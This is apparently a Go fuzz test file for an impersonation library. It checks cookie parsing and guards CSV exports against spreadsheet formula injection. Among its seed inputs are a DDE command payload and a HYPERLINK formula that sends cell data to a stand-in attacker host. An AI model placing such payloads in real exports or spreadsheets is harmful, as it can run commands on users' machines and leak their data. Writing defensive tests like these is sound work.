package guise_test

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/guise-go/guise"
)

// FuzzCookie sends whatever a browser, a proxy or an attacker may make of the
// Cookie header: what carries a handle never runs as the actor, and as the
// subject only with the right one.
func FuzzCookie(f *testing.F) {
	for _, seed := range []string{
		"guise=TOKEN", "guise=", "guise", "guise =TOKEN", " guise=TOKEN", "guise=TOKEN; guise=TOKEN", "guise=\"TOKEN\"", "guise=TOKEN\t",
		"Guise=TOKEN", "__Host-guise=TOKEN", "guise-over=1", "guise-over", "a=b; guise=x", "a=\"; guise=TOKEN", "guise=TOKEN, guise=x",
		"guise=TOKEN\x00", "guise=%54OKEN", "$Version=1; guise=TOKEN", "=guise=TOKEN", ";;;guise=x;;;", "guise==TOKEN", "guise=TOKEN=",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, line string) {
		w := newWorld(t, func(c *guise.Config) { c.DefaultMode = guise.ReadWrite })
		b := w.login("1")
		b.start("10")
		token := b.cookies["guise"]
		line = strings.ReplaceAll(line, "TOKEN", token)
		r := httptest.NewRequest("POST", "/write", nil)
		r.Header.Set("Cookie", loginCookie+"=1; "+line)
		w.handler.ServeHTTP(httptest.NewRecorder(), r)

		handles, right := 0, false
		for pair := range strings.SplitSeq(line, ";") {
			if value, ok := strings.CutPrefix(strings.TrimLeft(pair, " \t"), "guise="); ok {
				handles, right = handles+1, strings.Trim(value, " \t") == token
			}
		}
		for _, ran := range w.written() {
			switch {
			case strings.HasSuffix(ran, "as 10") && handles == 1 && right:
			case strings.HasSuffix(ran, "as 1") && handles == 0:
			default:
				t.Fatalf("%q with %d handles: ran %s", line, handles, ran)
			}
		}
	})
}

// FuzzExport exports whatever a reason may say: the file has the same rows and
// columns, and no cell that a spreadsheet runs.
func FuzzExport(f *testing.F) {
	for _, seed := range []string{
		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "a\r\n=1", "\"=1", "a,b", "\"\"", "＝1", "|x", "%0A", "  =1", "\ufeff=1",
		`=HYPERLINK("http://evil.example?x="&A1,"click")`,
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, reason string) {
		w := newWorld(t, nil)
		b := w.login("1")
		if b.post("/impersonate/start", form("user_id", "10", "reason", reason)).Code != 201 {
			return // no text that may be recorded
		}
		file := b.do("GET", "/impersonate/log/export?format=csv", "").Body.String()
		rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != len(rows[0]) {
			t.Fatalf("%q: %d rows, %v\n%s", reason, len(rows), err, file)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n|%＝＋－＠", []rune(cell)[0]) {
				t.Errorf("%q: the cell %q is run by a spreadsheet", reason, cell)
			}
		}
	})
}
